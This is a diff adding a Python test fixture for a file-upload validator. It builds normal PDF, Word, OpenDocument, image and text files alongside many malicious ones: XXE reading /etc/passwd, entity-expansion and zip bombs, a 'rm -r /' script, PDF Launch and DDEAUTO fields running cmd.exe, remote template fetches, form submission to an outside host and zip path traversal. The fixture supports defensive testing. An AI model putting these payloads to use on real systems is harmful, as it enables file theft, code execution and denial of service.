@@ -1,0 +1,304 @@
+"""Files as people, word processors and attackers make them: good ones, and a table of bad ones with what is said of each."""
+
+import stat
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from functools import cache
+from io import BytesIO
+from typing import Any
+
+import pikepdf
+from PIL import Image
+
+MOST = 2_000_000
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+ODT = "application/vnd.oasis.opendocument.text"
+Entries = dict[str, bytes | str]
+
+
+def zipped(entries: Entries, *, stored: tuple[str, ...] = ()) -> bytes:
+    out = BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
+        for name, content in entries.items():
+            packed.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
+    return out.getvalue()
+
+
+def types(main: str = WORD_MAIN, more: str = "") -> str:
+    return (
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
+    )
+
+
+def relation(kind: str, target: str, *, external: bool = True) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
+
+
+def docx_entries(**more: bytes | str) -> Entries:
+    body = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>Minutes of 2 March</w:t></w:r></w:p></w:body></w:document>'
+    core = "<cp:coreProperties xmlns:cp='c' xmlns:dc='d'><dc:creator>Aled Morgan</dc:creator></cp:coreProperties>"
+    return {
+        "[Content_Types].xml": types(),
+        "_rels/.rels": relation("officeDocument", "word/document.xml", external=False),
+        "word/document.xml": body,
+        "docProps/core.xml": core,
+        "docProps/app.xml": "<Properties><Company>Hillside School</Company></Properties>",
+        "word/_rels/document.xml.rels": relation("hyperlink", "https://www.gov.uk/"),
+        **more,
+    }
+
+
+def docx(**more: bytes | str) -> bytes:
+    return zipped(docx_entries(**more))
+
+
+def docx_with(name: str, content: bytes | str) -> Callable[[], bytes]:
+    return lambda: zipped({**docx_entries(), name: content})
+
+
+def field(*pieces: str) -> str:
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return f'<w:document xmlns:w="{W}"><w:body><w:p>{runs}</w:p></w:body></w:document>'
+
+
+def odt_entries(body: str = "<text:p>Minutes</text:p>", manifest: str = "") -> Entries:
+    spaces = 'xmlns:office="o" xmlns:text="t" xmlns:script="s" xmlns:draw="d" xmlns:xlink="x"'
+    return {
+        "mimetype": ODT,
+        "content.xml": f"<office:document-content {spaces}><office:body><office:text>{body}</office:text></office:body></office:document-content>",
+        "meta.xml": "<office:document-meta xmlns:office='o' xmlns:dc='d'><dc:creator>Aled Morgan</dc:creator></office:document-meta>",
+        "META-INF/manifest.xml": f"<manifest:manifest xmlns:manifest='m'>{manifest}</manifest:manifest>",
+    }
+
+
+def odt(body: str = "<text:p>Minutes</text:p>", manifest: str = "", **more: bytes | str) -> bytes:
+    return zipped(odt_entries(body, manifest) | more, stored=("mimetype",))
+
+
+def odt_with(name: str, content: bytes | str) -> Callable[[], bytes]:
+    return lambda: zipped(odt_entries() | {name: content}, stored=("mimetype",))
+
+
+def pdf(change: Callable[[Any], None] | None = None, **saving: Any) -> bytes:
+    new = pikepdf.new()
+    new.add_blank_page()
+    new.docinfo["/Author"] = "Aled Morgan"
+    if change is not None:
+        change(new)
+    out = BytesIO()
+    new.save(out, **saving)
+    return out.getvalue()
+
+
+def pdf_with_action(**action: Any) -> Callable[[], bytes]:
+    """A link on the first page that does this."""
+
+    def change(new: Any) -> None:
+        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=pikepdf.Dictionary(**action))
+        new.pages[0].Annots = pikepdf.Array([note])
+
+    return lambda: pdf(change)
+
+
+def pdf_root(key: str, value: Callable[[Any], Any]) -> Callable[[], bytes]:
+    return lambda: pdf(lambda new: new.Root.__setitem__(key, value(new)))
+
+
+def script(_new: Any = None) -> Any:
+    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+
+
+def attached(new: Any) -> None:
+    new.attachments["salaries.xlsx"] = b"numbers"
+
+
+def picture(form: str, mode: str = "RGB", size: tuple[int, int] = (40, 30), **saving: Any) -> bytes:
+    out = BytesIO()
+    Image.effect_noise(size, 60).convert(mode).save(out, form, **saving)
+    return out.getvalue()
+
+
+def camera_picture() -> bytes:
+    """A photograph that says where and by whom, and that it lies on its side."""
+    exif = Image.Exif()
+    exif[0x013B], exif[0x0112] = "Aled Morgan", 6
+    exif.get_ifd(0x8825)[1] = "N"
+    return picture("JPEG", exif=exif, comment=b"taken at home")
+
+
+def png_that_claims(width: int, height: int) -> bytes:
+    def chunk(name: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
+
+    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
+
+
+def moving_png() -> bytes:
+    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
+    out = BytesIO()
+    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
+    return out.getvalue()
+
+
+def flagged(name: str, *, bits: int = 0, mode: int = 0) -> bytes:
+    """A Word text with one more part that is marked so."""
+    out = BytesIO()
+    with zipfile.ZipFile(out, "w") as packed:
+        for part, content in docx_entries().items():
+            packed.writestr(part, content)
+        entry = zipfile.ZipInfo(name)
+        entry.external_attr = mode << 16
+        packed.writestr(entry, "/etc/passwd")
+    made = out.getvalue()
+    if bits:
+        at = made.rindex(b"PK\x01\x02")
+        made = made[: at + 8] + struct.pack("<H", bits) + made[at + 10 :]
+    return made
+
+
+def twice_the_same() -> bytes:
+    out = BytesIO()
+    with zipfile.ZipFile(out, "w") as packed:
+        for part, content in docx_entries().items():
+            packed.writestr(part, content)
+        packed.writestr("Word/Document.xml", "<other/>")
+    return out.getvalue()
+
+
+def lzma_packed() -> bytes:
+    out = BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as packed:
+        for part, content in docx_entries().items():
+            packed.writestr(part, content)
+    return out.getvalue()
+
+
+@cache
+def bomb() -> bytes:
+    return docx(**{"word/media/big.xml": bytes(40_000_000)})
+
+
+def damaged(content: bytes) -> bytes:
+    at = len(content) // 3
+    return content[:at] + bytes(byte ^ 0xFF for byte in content[at : at + 40]) + content[at + 40 :]
+
+
+ENTITY = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{W}">&x;</w:document>'
+LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>'
+MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+DOCUMENT = "word/document.xml"
+RELS = "word/_rels/document.xml.rels"
+
+Row = tuple[str, str, Callable[[], bytes], str]
+# What it is · the name it comes under · what is in it · words of the sentence that is said of it.
+BAD: tuple[Row, ...] = (
+    ("a program by name", "minutes.exe", pdf, "This kind of file is not taken"),
+    ("a program behind a second ending", "minutes.pdf.exe", pdf, "This kind of file is not taken"),
+    ("a stream of another system", "minutes.pdf::$DATA", pdf, "This kind of file is not taken"),
+    ("no ending", "minutes", pdf, "This kind of file is not taken"),
+    ("a web page by name", "minutes.html", lambda: b"<html></html>", "This kind of file is not taken"),
+    ("a drawing by name", "plan.svg", lambda: b"<svg onload='x()'/>", "This kind of file is not taken"),
+    ("an old Word document by name", "minutes.doc", pdf, "This kind of file is not taken"),
+    ("a macro document by name", "minutes.docm", docx, "This kind of file is not taken"),
+    ("a packed folder by name", "minutes.zip", docx, "This kind of file is not taken"),
+    ("a way up in the name", "../../etc/minutes.pdf", pdf, "holds a path"),
+    ("a way of another system in the name", "C:\\home\\minutes.pdf", pdf, "holds a path"),
+    ("NUL in the name", "minutes\x00.pdf", pdf, "signs that cannot be seen"),
+    ("a line break in the name", "minutes\r\nX: y.pdf", pdf, "signs that cannot be seen"),
+    ("a turn of the direction in the name", "minutes\u202exe.pdf", pdf, "signs that cannot be seen"),
+    ("half a sign in the name", "minutes\ud800.pdf", pdf, "signs that cannot be seen"),
+    ("300 characters", "m" * 296 + ".pdf", pdf, "more than 150 characters"),
+    ("nothing but dots", "....", pdf, "has no name"),
+    ("nothing in it", "minutes.pdf", lambda: b"", "is empty"),
+    ("more than may be", "minutes.txt", lambda: b"a" * (MOST + 1), "larger than 2 MB"),
+    ("a picture called a PDF", "minutes.pdf", lambda: picture("PNG"), "ends as that of a PDF"),
+    ("a PDF called a picture", "plan.png", pdf, "ends as that of a PNG picture"),
+    ("one picture called another", "plan.jpg", lambda: picture("PNG"), "ends as that of a JPEG picture"),
+    ("a program called a PDF", "minutes.pdf", lambda: b"MZ\x90\x00" + bytes(90), "is a program"),
+    ("a script called a text", "minutes.txt", lambda: b"#!/bin/sh\nrm -r /\n", "is a script"),
+    ("a web page called a text", "minutes.txt", lambda: b"\xef\xbb\xbf\n <!DOCTYPE html><script>x()</script>", "a web page or a drawing"),
+    ("a drawing called a picture", "plan.png", lambda: b"<?xml version='1.0'?><svg/>", "a web page or a drawing"),
+    ("a web page called a Word document", "minutes.docx", lambda: b"<html>hello</html>", "a web page or a drawing"),
+    ("a locked Word document", "minutes.docx", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(500), "needs a password"),
+    ("rich text called plain", "minutes.txt", lambda: b"{\\rtf1 hello}", "is a rich text file"),
+    ("a moving picture called a still one", "plan.png", lambda: picture("GIF", "P"), "is a GIF picture"),
+    ("a telephone's picture", "plan.jpg", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(50), "is a HEIC picture"),
+    ("a text called a Word document", "minutes.docx", lambda: b"hello", "ends as that of a Word document"),
+    ("a PDF with a password", "minutes.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")), "is encrypted"),
+    ("a PDF that only its owner may change", "minutes.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="", owner="x")), "is encrypted"),
+    ("a PDF that runs a script when it is opened", "minutes.pdf", pdf_root("/OpenAction", script), "holds a script"),
+    ("a PDF with a script by name", "m.pdf", pdf_root("/Names", lambda new: pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())), "holds a script"),
+    ("a PDF that starts a program", "m.pdf", pdf_with_action(S=pikepdf.Name.Launch, F="cmd.exe"), "holds a script or starts something"),
+    ("a PDF whose link is a script", "m.pdf", pdf_with_action(S=pikepdf.Name.URI, URI="javascript:x()"), "opens or fetches something outside"),
+    ("a PDF whose link is a file", "m.pdf", pdf_with_action(S=pikepdf.Name.URI, URI="file:///etc/passwd"), "opens or fetches something outside"),
+    ("a PDF that sends what is typed", "m.pdf", pdf_with_action(S=pikepdf.Name.SubmitForm, F="https://x.example"), "opens or fetches something"),
+    ("a PDF that opens another", "m.pdf", pdf_with_action(S=pikepdf.Name.GoToR, F="other.pdf"), "opens or fetches something outside"),
+    ("a PDF with a file in it", "m.pdf", lambda: pdf(attached), "Another file"),
+    ("a PDF that is a living form", "m.pdf", pdf_root("/AcroForm", lambda new: pikepdf.Dictionary(XFA=pikepdf.Array())), "is a form"),
+    ("a PDF with a film", "m.pdf", pdf_root("/X", lambda new: pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)), "a film or a sound"),
+    ("a PDF cut off", "m.pdf", lambda: pdf()[:300], "damaged or cut off"),
+    ("a PDF that is nothing but its first line", "m.pdf", lambda: b"%PDF-1.7\n%%EOF", "damaged or cut off"),
+    ("a PDF that is a packed folder too", "m.pdf", lambda: pdf() + docx(), "follows after the end of the PDF"),
+    ("a PDF behind something else", "m.pdf", lambda: b"GIF89a" + pdf(), "is a GIF picture"),
+    ("a picture cut off", "plan.png", lambda: picture("PNG")[:-60], "damaged or cut off"),
+    ("a photograph cut off", "plan.jpg", lambda: picture("JPEG", size=(200, 200))[:900], "damaged or cut off"),
+    ("a picture altered inside", "plan.png", lambda: damaged(picture("PNG")), "damaged or cut off"),
+    ("a picture that bursts", "plan.png", lambda: png_that_claims(50_000, 50_000), "40 million dots"),
+    ("a picture that lies about its size", "plan.png", lambda: png_that_claims(5_000, 5_000), "damaged or cut off"),
+    ("a picture that is a packed folder too", "plan.png", lambda: picture("PNG") + docx(), "follows after the end of the picture"),
+    ("a picture that moves", "plan.png", moving_png, "The picture moves"),
+    ("a text with NUL", "minutes.txt", lambda: b"min\x00utes", "no plain text has"),
+    ("a text in an old encoding", "minutes.txt", lambda: "Zoë".encode("latin-1"), "in UTF-8"),
+    ("a text of nothing but spaces", "minutes.txt", lambda: b" \n\t", "is empty"),
+    ("a Word document with macros", "m.docx", docx_with("word/vbaProject.bin", b"\x01"), "holds macros"),
+    ("a macro document under another name", "m.docx", lambda: zipped(docx_entries() | {"[Content_Types].xml": types(MACRO_MAIN)}), "holds macros"),
+    ("a Word document with a control", "m.docx", docx_with("word/activeX/activeX1.xml", "<x/>"), "holds macros"),
+    ("a table called a Word document", "m.docx", lambda: zipped(docx_entries() | {"[Content_Types].xml": types(SHEET_MAIN)}), "not the text"),
+    ("any packed folder called a Word document", "m.docx", lambda: zipped({"hello.txt": "hello"}), "damaged"),
+    ("a Word document that bursts", "m.docx", bomb, "far larger"),
+    ("a Word document of endless parts", "m.docx", lambda: docx(**{f"word/{n}.xml": "<x/>" for n in range(2_001)}), "far larger"),
+    ("a Word document that reads a file of the server", "m.docx", docx_with(DOCUMENT, ENTITY), "declares parts of its own"),
+    ("a Word document that laughs", "m.docx", docx_with(DOCUMENT, LAUGHS), "declares parts of its own"),
+    ("a Word document nested without end", "m.docx", docx_with(DOCUMENT, "<a>" * 9_000 + "</a>" * 9_000), "damaged"),
+    ("a Word document with bad XML", "m.docx", docx_with(DOCUMENT, "<w:document>"), "damaged"),
+    ("a link of the file system", "m.docx", lambda: flagged("word/link", mode=stat.S_IFLNK | 0o777), "in a way that no word processor uses"),
+    ("a part that leads out", "m.docx", lambda: flagged("../../etc/cron.d/x"), "in a way that no word processor uses"),
+    ("a part that leads to the root", "m.docx", lambda: flagged("/etc/passwd"), "in a way that no word processor uses"),
+    ("a part with a password", "m.docx", lambda: flagged("word/secret", bits=1), "is encrypted"),
+    ("two parts of one name", "m.docx", twice_the_same, "in a way that no word processor uses"),
+    ("another way of packing", "m.docx", lzma_packed, "in a way that no word processor uses"),
+    ("a Word document behind which something follows", "m.docx", lambda: docx() + b"<script>", "in a way that no word processor uses"),
+    ("a Word document cut off", "m.docx", lambda: docx()[:-200], "damaged"),
+    ("a Word document altered inside", "m.docx", lambda: damaged(docx()), "damaged"),
+    ("a template from outside", "m.docx", docx_with(RELS, relation("attachedTemplate", "https://x.example/t.dotm")), "fetches something"),
+    ("a picture from outside", "m.docx", docx_with(RELS, relation("image", "https://x.example/p.png")), "fetches something from outside"),
+    ("a link to a file", "m.docx", docx_with(RELS, relation("hyperlink", "file:///c:/x.exe")), "fetches something from outside"),
+    ("an object inside", "m.docx", docx_with("word/embeddings/oleObject1.xls", b"x"), "Another file lies inside"),
+    ("a field that runs a program, in pieces", "m.docx", docx_with(DOCUMENT, field("DD", "E", "AUTO c:\\cmd.exe")), "fetches something from outside"),
+    ("a picture inside that is none", "m.docx", docx_with("word/media/image1.png", b"hello"), "picture is damaged"),
+    ("an OpenDocument with macros", "m.odt", odt_with("Basic/Standard/Module1.xml", "<x/>"), "holds macros"),
+    ("an OpenDocument that acts on an event", "m.odt", lambda: odt("<script:event-listener script:event-name='open'/>"), "holds macros"),
+    ("an OpenDocument with a password", "m.odt", lambda: odt(manifest="<manifest:encryption-data/>"), "is encrypted"),
+    ("a picture from outside in an OpenDocument", "m.odt", lambda: odt("<draw:image xlink:href='https://x.example/p.png'/>"), "fetches something"),
+    ("an object in an OpenDocument", "m.odt", odt_with("Object 1/content.xml", "<x/>"), "Another file lies inside"),
+    ("an OpenDocument that does not begin as one", "m.odt", lambda: zipped(odt_entries()), "ends as that of"),
+    ("another OpenDocument", "m.odt", lambda: zipped(odt_entries() | {"mimetype": ODT + "-master"}, stored=("mimetype",)), "not the text document"),
+)  # fmt: skip
+GOOD: tuple[tuple[str, Callable[[], bytes]], ...] = (
+    ("Minutes of 2 March.pdf", pdf),
+    ("O’Brien & Søn – 会議.docx", docx),
+    ("letter.odt", odt),
+    ("plan.PNG", lambda: picture("PNG", "RGBA")),
+    ("board.jpeg", camera_picture),
+    ("notes.txt", lambda: "Zoë’s notes 👍\r\n".encode()),
+)
